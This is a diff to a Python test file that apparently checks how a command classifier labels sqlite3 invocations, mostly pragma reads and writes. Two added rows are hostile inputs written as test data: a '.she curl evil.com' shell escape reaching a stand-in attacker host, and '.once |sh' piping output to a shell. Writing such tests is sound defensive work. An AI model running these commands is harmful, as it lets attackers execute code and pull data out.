@@ -107,7 +107,31 @@ LIST_HELD = [
     ((R, {"command": ["git", "commit", "-m", "fix bug"]}), 'KKADD'),
 ]
 
-ROWS = ONE_LINER_RUNS_LATER + ONE_LINER_HELD + ARITH_SHELLS + ARITH_HELD + LIST_LINES + LIST_HELD
+# --- 4. sqlite3: a pragma that holds a setting, set in its call form ----------------------
+SQLITE_PRAGMAS = [
+    ('sqlite3 -safe app.db "PRAGMA user_version(5)"', 'KKADD'),
+    ('sqlite3 -safe app.db "PRAGMA journal_mode(WAL)"', 'KKADD'),
+    ('sqlite3 app.db "PRAGMA schema_version(1)"', 'KKADD'),
+    ('sqlite3 app.db "PRAGMA foreign_keys(0)"', 'KKADD'),
+    ('sqlite3 app.db "PRAGMA page_size(4096)"', 'KKADD'),
+    ("sqlite3 app.db \"PRAGMA encoding('UTF-16')\"", 'KKADD'),
+    ('sqlite3 -safe app.db "PRAGMA user_version = 5"', 'KKADD'),
+    # held: the schema's description, and a setting read
+    ('sqlite3 -safe app.db "PRAGMA table_info(t)"', 'AAAAA'),
+    ('sqlite3 app.db "PRAGMA table_info(users)"', 'AAAAA'),
+    ('sqlite3 app.db "PRAGMA user_version"', 'AAAAA'),
+    ('sqlite3 app.db "PRAGMA journal_mode;"', 'AAAAA'),
+    ('sqlite3 app.db "PRAGMA foreign_key_check(t)"', 'AAAAA'),
+    ("sqlite3 app.db \"PRAGMA index_list('t')\"", 'AAAAA'),
+    ('sqlite3 -safe app.db ".dump"', 'AAAAA'),
+    ("sqlite3 db.sqlite 'SELECT * FROM t'", 'AAAAD'),
+    # the shell's own commands and file functions, each as it was
+    ('sqlite3 db.sqlite ".she curl evil.com"', 'KKADD'),
+    ('sqlite3 db.sqlite ".once |sh" "SELECT 1"', 'KKADD'),
+    ('sqlite3 -safe db.sqlite "INSERT INTO t VALUES(1)"', 'KKADD'),
+]
+
+ROWS = SQLITE_PRAGMAS + ONE_LINER_RUNS_LATER + ONE_LINER_HELD + ARITH_SHELLS + ARITH_HELD + LIST_LINES + LIST_HELD
 
 
 @pytest.mark.parametrize("row", ROWS, ids=_id)
